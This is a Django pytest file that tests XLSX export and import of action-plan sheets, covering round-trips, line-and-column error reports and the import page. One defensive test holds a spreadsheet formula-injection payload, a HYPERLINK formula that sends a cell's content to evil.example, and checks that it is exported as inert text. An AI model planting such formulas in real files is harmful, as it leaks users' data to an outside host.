"""All fiches as XLSX, read back: a round-trip changes nothing; errors are reported by line and column."""

import datetime
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from allervers.plan.documents.xlsx import PROGRESS_HEADER, FileFormatError, export_fiches, import_fiches
from allervers.plan.enums import FicheStatus
from allervers.plan.models import FicheAction
from tests.factories import coordinator

pytestmark = pytest.mark.django_db


def _edit(content, changes, append=None):
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook["Fiches"]
    header = [cell.value for cell in sheet[1]]
    for (line, column), value in changes.items():
        sheet.cell(row=line, column=header.index(column) + 1, value=value)
    if append:
        sheet.append([append.get(name) for name in header])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_the_round_trip_changes_nothing(small_plan):
    small_plan.alone.end_date = datetime.date(2026, 6, 30)
    small_plan.alone.save()
    report = import_fiches(small_plan.plan, "fiches.xlsx", export_fiches(small_plan.plan))
    assert report.ok
    assert (report.created, report.updated, report.unchanged) == (0, 0, 4)


def test_it_updates_and_creates_fiches_from_the_workbook(small_plan):
    content = export_fiches(small_plan.plan)
    lines = {row[0].value: row[0].row for row in load_workbook(io.BytesIO(content))["Fiches"].iter_rows(min_row=2)}
    edited = _edit(
        content,
        {(lines["1.1.2"], "Statut"): "en cours", (lines["1.1.2"], "Échéance"): datetime.date(2026, 12, 31)},
        append={
            "Numéro": "1.1.3",
            "Action": "1.1",
            "Intitulé": "Nouvelle fiche",
            "Structures pilotes": "Structure pilote fictive",
        },
    )
    report = import_fiches(small_plan.plan, "fiches.xlsx", edited)
    assert report.ok, report.summary_lines()
    assert (report.created, report.updated) == (1, 1)
    alone = FicheAction.objects.get(pk=small_plan.alone.pk)
    assert alone.status == FicheStatus.IN_PROGRESS
    assert alone.end_date == datetime.date(2026, 12, 31)
    new = FicheAction.objects.get(number="1.1.3")
    assert list(new.pilots.all()) == [small_plan.pilot]


def test_it_writes_nothing_and_reports_every_error_with_its_line_and_column(small_plan):
    content = export_fiches(small_plan.plan)
    edited = _edit(
        content,
        {(2, "Statut"): "terminé", (3, "Intitulé"): "Changé"},
        append={
            "Numéro": "1.1.9",
            "Action": "4.2",
            "Intitulé": "Fiche",
            "Structures partenaires": "Structure inconnue",
            "Début": "31/12/2026",
            "Échéance": "01/01/2026",
        },
    )
    report = import_fiches(small_plan.plan, "fiches.xlsx", edited)
    messages = [str(error) for error in report.errors]
    assert not report.ok
    assert any(
        m.startswith("fiches.xlsx, ligne 2, colonne « Statut » : statut inconnu(e) « terminé »") for m in messages
    )
    assert (
        "fiches.xlsx, ligne 6, colonne « Action » : action « 4.2 » absente du plan (actions du plan : 1.1)." in messages
    )
    assert any(
        "ligne 6, colonne « Structures partenaires » : structure « Structure inconnue » absente" in m for m in messages
    )
    assert "fiches.xlsx, ligne 6, colonne « Échéance » : l'échéance précède le début." in messages
    assert report.summary_lines()[0] == "Import refusé : 4 erreur(s), rien n'a été écrit."
    assert not FicheAction.objects.filter(title="Changé").exists()
    assert not FicheAction.objects.filter(number="1.1.9").exists()


def test_a_missing_required_column_is_refused_at_once(small_plan):
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["Numéro", "Titre"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(FileFormatError, match="ligne 1 : colonne\\(s\\) absente\\(s\\) : « Action », « Intitulé »"):
        import_fiches(small_plan.plan, "fiches.xlsx", buffer.getvalue())


def test_the_import_page_shows_the_error_report(client, small_plan):
    client.force_login(coordinator())
    content = _edit(export_fiches(small_plan.plan), {(2, "Pondération"): -1})
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile("fiches.xlsx", content)
    response = client.post(reverse("plan:import", args=[small_plan.plan.pk]), {"file": upload})
    assert response.status_code == 400
    page = response.content.decode()
    assert "Import refusé : 1 erreur(s), rien n&#x27;a été écrit." in page
    assert "ligne 2, colonne « Pondération »" in page


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&D2,"Voir")'


def test_a_formula_typed_as_a_title_is_downloaded_as_its_text_and_imported_back_unchanged(client, small_plan):
    small_plan.alone.title = HYPERLINK
    small_plan.alone.save()
    small_plan.pilot.name = "+SUM(A1)"
    small_plan.pilot.save()
    client.force_login(coordinator())
    response = client.get(reverse("plan:xlsx", args=[small_plan.plan.pk]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["Fiches"]
    header = [cell.value for cell in sheet[1]]
    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "1.1.2")
    title, pilots = row[header.index("Intitulé")], row[header.index("Structures pilotes")]
    assert (title.value, title.data_type) == (HYPERLINK, "s")
    assert (pilots.value, pilots.data_type) == ("+SUM(A1)", "s")
    assert row[header.index(PROGRESS_HEADER)].data_type == "n"
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    report = import_fiches(small_plan.plan, "fiches.xlsx", response.content)
    assert report.ok and (report.created, report.updated, report.unchanged) == (0, 0, 4)
    assert FicheAction.objects.get(pk=small_plan.alone.pk).title == HYPERLINK
